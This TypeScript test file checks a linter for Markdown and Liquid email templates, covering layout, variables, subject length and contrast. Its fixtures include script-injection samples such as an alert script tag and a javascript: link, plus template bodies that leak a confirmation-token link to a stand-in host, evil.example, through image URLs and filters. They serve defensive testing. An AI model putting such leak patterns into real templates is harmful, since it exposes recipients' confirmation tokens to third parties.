import { expect, onTestFinished, test, vi } from 'vitest';
import { textsOn } from './layout.ts';
import { contrast, lintMail } from './lint.ts';
import { mailTemplate } from './template.ts';
import type { Variables } from './variables.ts';

const meaning = { fr: 'Un essai.', en: 'A test.' };
const variables: Variables = {
  name: { kind: 'TEXT', meaning, example: 'Zoé' },
  link: { kind: 'LINK', meaning, example: 'https://example.org/' },
  proof: { kind: 'LINK', meaning, example: 'https://example.org/#abc', proves: true },
  offers: { kind: 'LIST', meaning, of: { title: { kind: 'TEXT', meaning, example: 'Boulanger' } } },
};
const codes = (body: string, subject = 'Objet') =>
  lintMail({ fr: { subject, body } }, variables).map(({ code, severity }) => `${severity} ${code}`);

test('a good text has no findings', () => {
  const body =
    '## Titre\n\nBonjour {{ name }}\n\n### Suite\n\n{% for offer in offers %}\n- {{ offer.title }} {{ forloop.index }}\n{% endfor %}\n' +
    '[Voir l’offre]({{ link }}) [{{ name }}]({{ link }}) ![Le logo](https://example.org/logo.png) {{ offers.size }}';
  expect(codes(body, 'Bonjour {{ name }}')).toEqual([]);
});

test.each([
  ['', 'ERROR BODY_EMPTY'],
  ['![](https://example.org/a.png) texte', 'ERROR IMAGE_WITHOUT_TEXT'],
  ['![logo](data:image/png;base64,AA) texte', 'ERROR IMAGE_ADDRESS'],
  ['![logo](https://example.org/logo.png)', 'ERROR BODY_EMPTY'],
  ['<b onclick="x()">gras</b> texte', 'ERROR RAW_HTML'],
  ['<script>alert(1)</script>\n\ntexte', 'ERROR RAW_HTML'],
  ['[Cliquez ici !](https://example.org)', 'ERROR LINK_TEXT_VAGUE'],
  ['[](https://example.org) texte', 'ERROR LINK_WITHOUT_TEXT'],
  ['[Le dossier](javascript:alert(1))', 'ERROR LINK_ADDRESS'],
  ['# Un\n\n### Trois', 'WARNING HEADING_ORDER'],
  ['{{ name', 'ERROR SYNTAX'],
  ['{% include "x" %}', 'ERROR SYNTAX'],
  ['{{ nom }}', 'ERROR UNKNOWN_VARIABLE'],
  ['{{ name.first }}', 'ERROR UNKNOWN_VARIABLE'],
  ['{% for offer in offers %}{{ offer.salary }}{% endfor %}', 'ERROR UNKNOWN_VARIABLE'],
  ['{% if nope %}x{% endif %}', 'ERROR UNKNOWN_VARIABLE'],
  ['{{ offers }}', 'ERROR EXAMPLE_UNFIT'],
])('the text %s is judged %s', (body, wanted) => {
  expect(new Set(codes(body))).toContain(wanted);
});

test('a link that proves something is a whole address and nothing else: a text tells nobody what it is', () => {
  expect(codes('[Confirmer]({{ proof }}) ou [autrement]({{- proof -}})')).toEqual([]);
  for (const body of [
    '{{ proof }}',
    '![x](https://evil.example/?{{ proof }}) texte',
    '![x]({{ proof }}) texte',
    '[Confirmer](https://evil.example/{{ proof | split: "#" | last }})',
    '[Confirmer]({{ proof | replace: "example.org", "evil.example" }})',
    '{% if proof contains "#a" %}![x](https://evil.example/a.png){% endif %} texte',
    '[Confirmer]({{ proof }}) {% for offer in offers %}{{ proof.size }}{% endfor %}',
  ])
    expect([body, codes(body)]).toEqual([body, expect.arrayContaining(['ERROR LINK_USED_OTHERWISE'])]);
  expect(codes('texte', '{{ proof }}')).toContain('ERROR LINK_USED_OTHERWISE');
});

test('a subject is not empty and not too long', () => {
  expect(codes('x', ' ')).toEqual(['ERROR SUBJECT_EMPTY']);
  expect(codes('x', 'a'.repeat(79))).toEqual(['WARNING SUBJECT_LONG']);
  expect(codes('x', 'a'.repeat(151))).toEqual(['ERROR SUBJECT_TOO_LONG']);
});

test('an unknown variable is named with those there are, in the language it stands in', () => {
  const content = { fr: { subject: 'x', body: 'y' }, en: { subject: '{{ nom }}', body: 'y' } };
  expect(lintMail(content, variables)).toEqual([
    {
      code: 'UNKNOWN_VARIABLE',
      severity: 'ERROR',
      language: 'EN',
      place: 'SUBJECT',
      values: { name: 'nom', known: 'name, link, proof, offers, offers.title' },
    },
  ]);
});

test('every text of the layout keeps a contrast of 4.5, light and dark', () => {
  expect(textsOn.filter(({ text, background }) => contrast(text, background) < 4.5)).toEqual([]);
  expect(contrast('#000000', '#ffffff')).toBeCloseTo(21);
});

test('a mail that could not be sent stops the program where it is declared', () => {
  const content = { fr: { subject: 'x', body: '{{ nom }}' }, en: { subject: 'x', body: 'y' } };
  expect(() => mailTemplate('test.bad', { purpose: meaning, topic: null, variables, content })).toThrow(
    'The mail test.bad is not fit to be sent',
  );
});

test('a text of the program may take its time on a machine that has much else to do, one that somebody wrote may not', () => {
  // Every look at the clock is two seconds later.
  let now = performance.now();
  const clock = vi.spyOn(performance, 'now').mockImplementation(() => (now += 2_000));
  onTestFinished(() => clock.mockRestore());
  const content = { fr: { subject: 'x', body: 'Bonjour {{ name }}' }, en: { subject: 'x', body: 'Hello {{ name }}' } };
  const { name } = variables;
  expect(lintMail(content, { name: name as never }).map(({ code }) => code)).toContain('EXAMPLE_UNFIT');
  const declared = mailTemplate('test.late', {
    purpose: meaning,
    topic: null,
    variables: { name: name as never },
    content,
  });
  expect(declared.name).toBe('test.late');
});
